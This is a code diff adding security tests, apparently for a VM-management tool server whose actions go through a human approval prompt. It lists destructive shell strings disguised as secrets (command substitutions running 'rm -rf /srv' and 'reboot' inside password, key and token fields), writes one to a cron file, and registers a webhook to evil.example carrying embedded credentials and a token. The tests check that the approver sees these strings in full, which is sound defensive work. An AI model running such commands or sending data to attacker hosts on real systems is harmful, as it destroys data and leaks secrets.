@@ -192,3 +192,53 @@ async def test_a_node_is_no_way_to_another_path(lab: Lab, node: str) -> None:
     async with lab.client() as attacker:
         await attacker.refused("get_node_status", "node:", node=node)
         assert lab.simulator.requests == type(lab.simulator.requests)()
+
+
+BLINDS = [
+    'password="$(rm -rf /srv)"',
+    "true;pass=$(reboot)",
+    'SECRET="$(rm -rf /srv)"',
+    "echo -----BEGIN PRIVATE KEY-----; reboot; rm /srv",
+    "curl http://$(reboot)@x",
+    "a?key=$(reboot)",
+    "x=PVE:a::$(reboot)",
+    "CSRFPreventionToken=$(reboot)",
+]
+
+
+@pytest.mark.parametrize("script", BLINDS)
+@pytest.mark.parametrize(
+    ("tool", "arguments"),
+    [
+        ("execute_vm_command", lambda script: {"vmid": 100, "command": ["sh", "-c", script]}),
+        ("execute_vm_command", lambda script: {"vmid": 100, "command": "sh", "input_data": script}),
+        ("write_guest_file", lambda script: {"vmid": 100, "file": "/etc/cron.d/x", "content": script}),
+    ],
+)
+async def test_a_script_that_looks_like_a_secret_is_shown_to_who_decides(
+    lab: Lab, script: str, tool: str, arguments: Any
+) -> None:
+    asked: list[str] = []
+
+    async def read(context: Any, params: Any) -> Any:
+        asked.append(params.message)
+        return await answering("decline")(context, params)
+
+    async with lab.client(answer=read, toolsets=("all",)) as attacker:
+        await attacker.call(tool, **arguments(script))
+    assert script in asked[0]
+
+
+async def test_who_decides_sees_where_notifications_would_go(lab: Lab) -> None:
+    asked: list[str] = []
+
+    async def read(context: Any, params: Any) -> Any:
+        asked.append(params.message)
+        return await answering("decline")(context, params)
+
+    params = {"name": "w", "url": "https://me:pw@evil.example:8443/T0KEN?x=1", "method": "post"}
+    async with lab.client(answer=read, toolsets=("all",)) as attacker:
+        path = "/cluster/notifications/endpoints/webhook"
+        await attacker.call("call_api", method="POST", path=path, params=params)
+    assert "https://evil.example:8443/[hidden]" in asked[0]
+    assert "T0KEN" not in asked[0]
